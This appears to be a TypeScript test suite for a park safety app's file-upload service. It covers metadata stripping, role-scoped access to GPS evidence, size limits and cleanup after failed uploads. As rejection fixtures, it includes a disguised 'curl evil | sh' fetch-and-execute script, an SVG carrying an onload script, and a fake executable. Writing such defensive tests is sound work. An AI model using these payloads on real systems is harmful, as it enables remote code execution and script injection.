// The upload pipeline end to end: content decides the type, photos lose their metadata but keep their evidence for
// the committee, limits hold at the parser, files are served only within their enterprise's data scope, and a failed
// upload leaves nothing behind — on disk or in the database.
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { sql } from 'drizzle-orm';
import type { LightMyRequestResponse } from 'fastify';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FileView } from '../../../../shared/src/files';
import type { Actor } from '../../platform/actor';
import { rows } from '../../platform/db';
import { type Client, createTestEnv, signedIn, type TestEnv } from '../../testing/harness';
import { assertFilesUsable, filesOf } from './service';

let env: TestEnv;
let dataDir: string;
let sup: Client;
let ent1: Client;
let ent2: Client;
let ent1Id: string;
let ent2Id: string;

beforeAll(async () => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'parksafe-files-test-'));
  env = await createTestEnv({ env: { DATA_DIR: dataDir } });
  sup = await signedIn(env.app, 'supervisor');
  ent1 = await signedIn(env.app, 'enterprise1');
  ent2 = await signedIn(env.app, 'enterprise2');
  const me = async (c: Client) =>
    ((await c.get('/api/auth/session')).json() as { me: { enterpriseId: string } }).me.enterpriseId;
  ent1Id = await me(ent1);
  ent2Id = await me(ent2);
});
afterAll(async () => {
  await env?.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

// ------------------------------------------------------------------------------------------------ helpers

const errorOf = (res: LightMyRequestResponse) =>
  (res.json() as { error: { code: string; message: string; fields?: Record<string, string> } }).error;

interface Part {
  name: string;
  content: Buffer;
  type?: string;
  field?: string;
}

function multipart(fields: Record<string, string>, parts: Part[], fieldsFirst = true) {
  const boundary = `----parksafe${randomBytes(8).toString('hex')}`;
  const fieldChunks = Object.entries(fields).map(([k, v]) =>
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`),
  );
  const fileChunks = parts.flatMap((p) => [
    // Browsers send the file name as raw UTF-8.
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="${p.field ?? 'file'}"; filename="${p.name}"\r\n` +
        `Content-Type: ${p.type ?? 'image/jpeg'}\r\n\r\n`,
    ),
    p.content,
    Buffer.from('\r\n'),
  ]);
  const body = fieldsFirst ? [...fieldChunks, ...fileChunks] : [...fileChunks, ...fieldChunks];
  return {
    payload: Buffer.concat([...body, Buffer.from(`--${boundary}--\r\n`)]),
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

async function upload(
  c: Client,
  file: Part | Part[] | null,
  fields: Record<string, string>,
  opts: { fieldsFirst?: boolean } = {},
): Promise<LightMyRequestResponse> {
  const body = multipart(fields, file === null ? [] : Array.isArray(file) ? file : [file], opts.fieldsFirst);
  return c.app.inject({
    method: 'POST',
    url: '/api/files',
    headers: { cookie: c.cookie, 'x-csrf-token': c.csrf, 'content-type': body.contentType },
    payload: body.payload,
  });
}

const solid = (width: number, height: number, background = '#2e86de') =>
  sharp({ create: { width, height, channels: 3, background } });

/** A phone photo: 1200×900 stored sideways (EXIF orientation 6), with capture time, position and camera. */
async function phonePhoto(): Promise<Buffer> {
  return solid(1200, 900)
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: 'ParkSafeCam', Model: 'Evidence 1', Software: 'secret-firmware' },
      IFD2: { DateTimeOriginal: '2026:03:14 09:26:53', OffsetTimeOriginal: '+08:00' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '36/1 48/1 1234/100',
        GPSLongitudeRef: 'E',
        GPSLongitude: '118/1 3/1 0/1',
      },
    })
    .toBuffer();
}

const MINIMAL_PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
);

const filesRoot = () => path.join(dataDir, 'files');
/** Every stored file (not the temp directory). */
function storedFiles(): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    if (!fs.existsSync(dir)) return;
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      if (e.name === '.tmp') continue;
      const p = path.join(dir, e.name);
      if (e.isDirectory()) walk(p);
      else out.push(path.relative(filesRoot(), p));
    }
  };
  walk(filesRoot());
  return out.sort();
}
const tempFiles = () => fs.readdirSync(path.join(filesRoot(), '.tmp'));
const fileRows = async () =>
  Number((await rows<{ n: string | number }>(env.database.db, sql`select count(*) as n from files`))[0]!.n);

async function actorOf(username: string): Promise<Actor> {
  const [u] = await rows<{
    id: string;
    display_name: string;
    role: Actor['role'];
    park_id: string;
    organisation_id: string;
    kind: string;
  }>(
    env.database.db,
    sql`select u.id, u.display_name, u.role, u.park_id, u.organisation_id, o.kind
          from users u join organisations o on o.id = u.organisation_id where u.username = ${username}`,
  );
  return {
    userId: u!.id,
    username,
    displayName: u!.display_name,
    role: u!.role,
    parkId: u!.park_id,
    organisationId: u!.organisation_id,
    enterpriseId: u!.kind === 'enterprise' ? u!.organisation_id : null,
    mustChangePassword: false,
  };
}

// ------------------------------------------------------------------------------------------------ tests

describe('uploading a photo', () => {
  let photo: FileView;

  it('re-encodes it upright without any EXIF, with a thumbnail, on disk under <park>/<yyyy>/<mm>/<id>', async () => {
    const res = await upload(
      ent1,
      { name: '配电箱门未关闭.jpg', content: await phonePhoto() },
      { purpose: 'hazardBefore', enterpriseId: ent1Id },
    );
    expect(res.statusCode, res.body).toBe(200);
    photo = res.json() as FileView;
    expect(photo).toMatchObject({
      enterpriseId: ent1Id,
      purpose: 'hazardBefore',
      mime: 'image/jpeg',
      width: 900,
      height: 1200,
      originalName: '配电箱门未关闭.jpg',
      url: `/api/files/${photo.id}`,
      thumbUrl: `/api/files/${photo.id}/thumb`,
    });
    // The uploader is an enterprise: the evidence fields are not shown to it.
    expect(photo).not.toHaveProperty('capturedAt');
    expect(photo).not.toHaveProperty('gps');

    const served = await ent1.get(photo.url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['cache-control']).toMatch(/^private/);
    expect(served.headers['content-disposition']).toBe(
      `inline; filename="file.jpg"; filename*=UTF-8''${encodeURIComponent('配电箱门未关闭.jpg')}`,
    );
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    const bytes = served.rawPayload;
    expect(bytes.length).toBe(photo.size);
    const meta = await sharp(bytes).metadata();
    expect(meta.format).toBe('jpeg');
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect([meta.width, meta.height]).toEqual([900, 1200]);
    expect(bytes.includes(Buffer.from('ParkSafeCam'))).toBe(false);
    expect(bytes.includes(Buffer.from('secret-firmware'))).toBe(false);

    const thumb = await ent1.get(photo.thumbUrl!);
    expect(thumb.statusCode).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/jpeg');
    const t = await sharp(thumb.rawPayload).metadata();
    expect([t.width, t.height]).toEqual([240, 320]);
    expect(t.exif).toBeUndefined();

    const [row] = await rows<{ storage_key: string; thumb_key: string; park_id: string; sha256: string }>(
      env.database.db,
      sql`select storage_key, thumb_key, park_id, sha256 from files where id = ${photo.id}`,
    );
    expect(row!.storage_key).toMatch(new RegExp(`^${row!.park_id}/\\d{4}/\\d{2}/${photo.id}$`));
    expect(fs.readFileSync(path.join(filesRoot(), row!.storage_key)).equals(bytes)).toBe(true);
    expect(fs.existsSync(path.join(filesRoot(), row!.thumb_key))).toBe(true);
    expect(served.headers.etag).toBe(`"${row!.sha256}"`);
    expect(tempFiles()).toEqual([]);
  });

  it('shows capture time and position to the supervisor, not to the enterprise', async () => {
    const forSup = (await sup.get(`/api/files/${photo.id}/meta`)).json() as FileView;
    expect(forSup.capturedAt).toBe('2026-03-14T01:26:53.000Z');
    expect(forSup.gps).toEqual({ lat: 36.803428, lng: 118.05 });
    const forEnt = await ent1.get(`/api/files/${photo.id}/meta`);
    expect(forEnt.statusCode).toBe(200);
    expect(forEnt.json()).toMatchObject({ id: photo.id, mime: 'image/jpeg', width: 900, height: 1200 });
    expect(forEnt.json()).not.toHaveProperty('capturedAt');
    expect(forEnt.json()).not.toHaveProperty('gps');
    const leader = await signedIn(env.app, 'leader');
    expect((await leader.get(`/api/files/${photo.id}/meta`)).json()).not.toHaveProperty('gps');
    expect((await leader.get(photo.url)).statusCode).toBe(200); // park-wide read
  });

  it('records the upload in the audit log, without the position', async () => {
    const [a] = await rows<{ action: string; enterprise_id: string; after: unknown; actor_role: string }>(
      env.database.db,
      sql`select action, enterprise_id, after, actor_role from audit_log where entity_id = ${photo.id}`,
    );
    const after = (typeof a!.after === 'string' ? JSON.parse(a!.after) : a!.after) as Record<string, unknown>;
    expect(a).toMatchObject({ action: 'file.upload', enterprise_id: ent1Id, actor_role: 'enterprise' });
    expect(after).toMatchObject({ id: photo.id, purpose: 'hazardBefore', mime: 'image/jpeg', hasGps: true });
    expect(after).not.toHaveProperty('gps');
    expect(JSON.stringify(after)).not.toContain('36.8');
  });

  it('answers a conditional request with 304', async () => {
    const first = await ent1.get(photo.url);
    const again = await ent1.app.inject({
      method: 'GET',
      url: photo.url,
      headers: { cookie: ent1.cookie, 'if-none-match': String(first.headers.etag) },
    });
    expect(again.statusCode).toBe(304);
    expect(again.rawPayload.length).toBe(0);
  });

  it('keeps every enterprise out of another enterprise’s files (404, like a file that does not exist)', async () => {
    for (const url of [photo.url, photo.thumbUrl!, `/api/files/${photo.id}/meta`]) {
      const res = await ent2.get(url);
      expect(res.statusCode, url).toBe(404);
      expect(errorOf(res).code).toBe('FILE_NOT_FOUND');
    }
    const own = await upload(
      ent2,
      { name: 'x.jpg', content: await phonePhoto() },
      { purpose: 'evidence', enterpriseId: ent1Id },
    );
    expect(own.statusCode).toBe(404);
    expect(tempFiles()).toEqual([]);
  });

  it('limits an inspector to assigned enterprises and shows it the evidence', async () => {
    const insp = await signedIn(env.app, 'inspector');
    const inspector = await actorOf('inspector');
    const [assigned] = await rows<{ enterprise_id: string }>(
      env.database.db,
      sql`select enterprise_id from inspector_assignments where user_id = ${inspector.userId} limit 1`,
    );
    const res = await upload(
      insp,
      { name: '现场检查.jpg', content: await phonePhoto() },
      { purpose: 'evidence', enterpriseId: assigned!.enterprise_id },
    );
    expect(res.statusCode, res.body).toBe(200);
    expect((res.json() as FileView).gps).toEqual({ lat: 36.803428, lng: 118.05 });
    const [unassigned] = await rows<{ id: string }>(
      env.database.db,
      // Outside its scope: neither assigned nor a target of a campaign whose team it is on (platform/scope.ts).
      sql`select id from enterprises where park_id = ${inspector.parkId} and id not in
            (select enterprise_id from inspector_assignments where user_id = ${inspector.userId})
            and id not in (select ce.enterprise_id from campaign_enterprises ce
                             join campaign_inspectors ci on ci.park_id = ce.park_id and ci.campaign_id = ce.campaign_id
                            where ci.user_id = ${inspector.userId})
          order by id limit 1`,
    );
    const refused = await upload(
      insp,
      { name: 'x.jpg', content: await phonePhoto() },
      { purpose: 'evidence', enterpriseId: unassigned!.id },
    );
    expect(refused.statusCode).toBe(404);
  });

  it('refuses uploads from read-only roles with 403', async () => {
    for (const username of ['leader', 'department']) {
      const c = await signedIn(env.app, username);
      const res = await upload(
        c,
        { name: 'a.jpg', content: await phonePhoto() },
        { purpose: 'evidence', enterpriseId: ent1Id },
      );
      expect(res.statusCode, username).toBe(403);
      expect(errorOf(res).code).toBe('FILE_UPLOAD_FORBIDDEN');
    }
  });
});

describe('what is accepted', () => {
  it('refuses a Windows executable named photo.jpg (400, by content)', async () => {
    const before = { rows: await fileRows(), stored: storedFiles() };
    const mz = Buffer.concat([
      Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00', 'latin1'),
      randomBytes(4096),
    ]);
    const res = await upload(
      ent1,
      { name: 'photo.jpg', content: mz, type: 'image/jpeg' },
      {
        purpose: 'evidence',
        enterpriseId: ent1Id,
      },
    );
    expect(res.statusCode).toBe(400);
    expect(errorOf(res)).toMatchObject({
      code: 'FILE_TYPE_NOT_ALLOWED',
      message: '只能上传 JPG/PNG/WebP 图片或 PDF 文件',
    });
    expect(errorOf(res).fields?.file).toBeDefined();
    for (const [name, content] of [
      ['scan.jpg', Buffer.from('#!/bin/sh\ncurl evil | sh\n')],
      ['logo.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
      ['a.pdf', Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1')],
    ] as const) {
      const r = await upload(ent1, { name, content }, { purpose: 'evidence', enterpriseId: ent1Id });
      expect(r.statusCode, name).toBe(400);
      expect(errorOf(r).code).toBe('FILE_TYPE_NOT_ALLOWED');
    }
    expect(await fileRows()).toBe(before.rows);
    expect(storedFiles()).toEqual(before.stored);
    expect(tempFiles()).toEqual([]);
  });

  it('refuses a JPEG header in front of garbage, and a HEIC it cannot decode, with a clear message', async () => {
    const broken = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(2048)]);
    const r1 = await upload(
      ent1,
      { name: 'broken.jpg', content: broken },
      { purpose: 'evidence', enterpriseId: ent1Id },
    );
    expect(r1.statusCode).toBe(400);
    expect(errorOf(r1).code).toBe('FILE_UNREADABLE');
    const heic = Buffer.concat([
      Buffer.from([0, 0, 0, 24]),
      Buffer.from('ftypheic\0\0\0\0mif1heic'),
      randomBytes(1024),
    ]);
    const r2 = await upload(
      ent1,
      { name: 'IMG_0001.HEIC', content: heic },
      { purpose: 'evidence', enterpriseId: ent1Id },
    );
    expect(r2.statusCode).toBe(400);
    expect(errorOf(r2)).toMatchObject({ code: 'FILE_TYPE_NOT_ALLOWED' });
    expect(errorOf(r2).message).toContain('HEIC');
    expect(tempFiles()).toEqual([]);
  });

  it('refuses a 50 MB photo before reading it (413 naming the limit)', async () => {
    const before = await fileRows();
    const big = Buffer.alloc(50 * 1024 * 1024, 0xff);
    big[0] = 0xff;
    big[1] = 0xd8;
    const res = await upload(ent1, { name: 'huge.jpg', content: big }, { purpose: 'evidence', enterpriseId: ent1Id });
    expect(res.statusCode).toBe(413);
    expect(errorOf(res)).toMatchObject({ code: 'FILE_TOO_LARGE' });
    expect(errorOf(res).message).toContain('10 MB');
    expect(await fileRows()).toBe(before);
    expect(tempFiles()).toEqual([]);
  });

  it('stops at the parser when the body is only a little over the limit (413, no temp file left)', async () => {
    const over = Buffer.alloc(10 * 1024 * 1024 + 1024, 0x20);
    Buffer.from('%PDF-1.4\n').copy(over);
    const res = await upload(
      ent1,
      { name: 'big.pdf', content: over, type: 'application/pdf' },
      {
        purpose: 'document',
        enterpriseId: ent1Id,
      },
    );
    expect(res.statusCode).toBe(413);
    expect(errorOf(res).message).toContain('10 MB');
    expect(tempFiles()).toEqual([]);
  });

  it('accepts a PNG (served as JPEG) and WebP with the fields after the file', async () => {
    const png = await sharp({
      create: { width: 640, height: 480, channels: 4, background: { r: 0, g: 128, b: 0, alpha: 0.5 } },
    })
      .png()
      .toBuffer();
    const r1 = await upload(
      ent1,
      { name: '隐患整改后.png', content: png, type: 'image/png' },
      {
        purpose: 'hazardAfter',
        enterpriseId: ent1Id,
      },
    );
    expect(r1.statusCode, r1.body).toBe(200);
    const v1 = r1.json() as FileView;
    expect(v1).toMatchObject({ mime: 'image/jpeg', width: 640, height: 480, originalName: '隐患整改后.png' });
    const served = await ent1.get(v1.url);
    expect((await sharp(served.rawPayload).metadata()).format).toBe('jpeg');
    expect(served.headers['content-disposition']).toContain(encodeURIComponent('隐患整改后.jpg'));

    const webp = await solid(300, 200).webp().toBuffer();
    const r2 = await upload(
      ent1,
      { name: 'w.webp', content: webp, type: 'image/webp' },
      { purpose: 'evidence', enterpriseId: ent1Id },
      { fieldsFirst: false },
    );
    expect(r2.statusCode, r2.body).toBe(200);
    expect(r2.json()).toMatchObject({ mime: 'image/jpeg', width: 300, height: 200 });

    const avif = await solid(200, 100).avif().toBuffer();
    const r3 = await upload(
      ent1,
      { name: 'a.avif', content: avif, type: 'image/avif' },
      { purpose: 'evidence', enterpriseId: ent1Id },
    );
    expect(r3.statusCode, r3.body).toBe(200);
  });

  it('accepts a PDF and serves it byte for byte, without a thumbnail', async () => {
    const res = await upload(
      ent1,
      { name: '整改报告.pdf', content: MINIMAL_PDF, type: 'application/pdf' },
      {
        purpose: 'document',
        enterpriseId: ent1Id,
      },
    );
    expect(res.statusCode, res.body).toBe(200);
    const v = res.json() as FileView;
    expect(v).toMatchObject({
      mime: 'application/pdf',
      size: MINIMAL_PDF.length,
      width: null,
      height: null,
      thumbUrl: null,
    });
    const served = await sup.get(v.url);
    expect(served.headers['content-type']).toBe('application/pdf');
    expect(served.headers['content-disposition']).toMatch(/^inline; /);
    expect(served.rawPayload.equals(MINIMAL_PDF)).toBe(true);
    const thumb = await sup.get(`/api/files/${v.id}/thumb`);
    expect(thumb.statusCode).toBe(404);
    expect(errorOf(thumb).code).toBe('FILE_NO_THUMBNAIL');
  });

  it('names the missing field, and refuses a form without a file or with two', async () => {
    const png = await solid(20, 20).png().toBuffer();
    const noPurpose = await upload(ent1, { name: 'a.png', content: png }, { enterpriseId: ent1Id });
    expect(noPurpose.statusCode).toBe(400);
    expect(errorOf(noPurpose).fields?.purpose).toBe('请选择文件用途');
    const badPurpose = await upload(ent1, { name: 'a.png', content: png }, { purpose: 'selfie', enterpriseId: ent1Id });
    expect(errorOf(badPurpose).fields?.purpose).toBeDefined();
    const noFile = await upload(ent1, null, { purpose: 'evidence', enterpriseId: ent1Id });
    expect(noFile.statusCode).toBe(400);
    expect(errorOf(noFile).code).toBe('FILE_MISSING');
    const json = await ent1.post('/api/files', { purpose: 'evidence', enterpriseId: ent1Id });
    expect(json.statusCode).toBe(400);
    const two = await upload(
      ent1,
      [
        { name: 'a.png', content: png },
        { name: 'b.png', content: png },
      ],
      { purpose: 'evidence', enterpriseId: ent1Id },
    );
    expect(two.statusCode).toBe(400);
    expect(errorOf(two).code).toBe('FILE_ONE_ONLY');
    expect(tempFiles()).toEqual([]);
  });
});

describe('a failed upload leaves nothing behind', () => {
  it('removes the placed bytes when the database transaction fails', async () => {
    // Make the insert fail for one file name, after the bytes were placed on disk.
    // DDL needs the owner role (on PostgreSQL the app runs as the restricted server role).
    await env.owner.exec(`
      CREATE FUNCTION files_test_fail() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN
        IF NEW.original_name = 'boom.jpg' THEN RAISE EXCEPTION 'simulated database failure'; END IF;
        RETURN NEW;
      END $$;
      CREATE TRIGGER files_test_fail BEFORE INSERT ON files FOR EACH ROW EXECUTE FUNCTION files_test_fail();`);
    try {
      const before = { rows: await fileRows(), stored: storedFiles() };
      const [{ n: auditBefore }] = (await rows<{ n: string | number }>(
        env.database.db,
        sql`select count(*) as n from audit_log where action = 'file.upload'`,
      )) as [{ n: string | number }];
      const res = await upload(
        ent1,
        { name: 'boom.jpg', content: await phonePhoto() },
        {
          purpose: 'evidence',
          enterpriseId: ent1Id,
        },
      );
      expect(res.statusCode).toBe(500);
      expect(await fileRows()).toBe(before.rows);
      expect(storedFiles()).toEqual(before.stored);
      expect(tempFiles()).toEqual([]);
      const [{ n: auditAfter }] = (await rows<{ n: string | number }>(
        env.database.db,
        sql`select count(*) as n from audit_log where action = 'file.upload'`,
      )) as [{ n: string | number }];
      expect(Number(auditAfter)).toBe(Number(auditBefore));
    } finally {
      await env.owner.exec('DROP TRIGGER files_test_fail ON files; DROP FUNCTION files_test_fail();');
    }
  });
});

describe('for other modules', () => {
  it('assertFilesUsable accepts files of the enterprise visible to the actor, of the right purpose', async () => {
    const photo = (
      await upload(
        ent1,
        { name: 'before.jpg', content: await phonePhoto() },
        { purpose: 'hazardBefore', enterpriseId: ent1Id },
      )
    ).json() as FileView;
    const pdf = (
      await upload(ent1, { name: 'doc.pdf', content: MINIMAL_PDF }, { purpose: 'document', enterpriseId: ent1Id })
    ).json() as FileView;
    const { db } = env.database;
    const enterprise1 = await actorOf('enterprise1');
    const enterprise2 = await actorOf('enterprise2');
    const supervisor = await actorOf('supervisor');

    await expect(assertFilesUsable(db, enterprise1, ent1Id, [photo.id, pdf.id, photo.id])).resolves.toBeUndefined();
    await expect(assertFilesUsable(db, supervisor, ent1Id, [photo.id], 'hazardBefore')).resolves.toBeUndefined();
    await expect(assertFilesUsable(db, supervisor, ent1Id, [])).resolves.toBeUndefined();
    const refusals: [Actor, string, string[], Parameters<typeof assertFilesUsable>[4]][] = [
      [supervisor, ent1Id, [photo.id], 'hazardAfter'], // wrong purpose
      [supervisor, ent1Id, [photo.id, pdf.id], ['hazardBefore', 'hazardAfter']],
      [supervisor, ent2Id, [photo.id], undefined], // another enterprise's record
      [enterprise2, ent1Id, [photo.id], undefined], // outside the actor's scope
      [supervisor, ent1Id, [photo.id, '00000000-0000-4000-8000-000000000000'], undefined], // unknown id
      [supervisor, ent1Id, ['not-a-uuid'], undefined],
    ];
    for (const [actor, enterpriseId, ids, purpose] of refusals) {
      await expect(assertFilesUsable(db, actor, enterpriseId, ids, purpose)).rejects.toMatchObject({
        status: 422,
        code: 'FILE_NOT_FOUND',
        message: expect.stringContaining('文件'),
      });
    }

    const views = await filesOf(db, [pdf.id, 'junk', photo.id]);
    expect(views.map((v) => v.id)).toEqual([pdf.id, photo.id]);
    expect(views[1]).not.toHaveProperty('gps');
    const forSupervisor = await filesOf(db, [photo.id], supervisor);
    expect(forSupervisor[0]!.gps).toEqual({ lat: 36.803428, lng: 118.05 });
  });
});
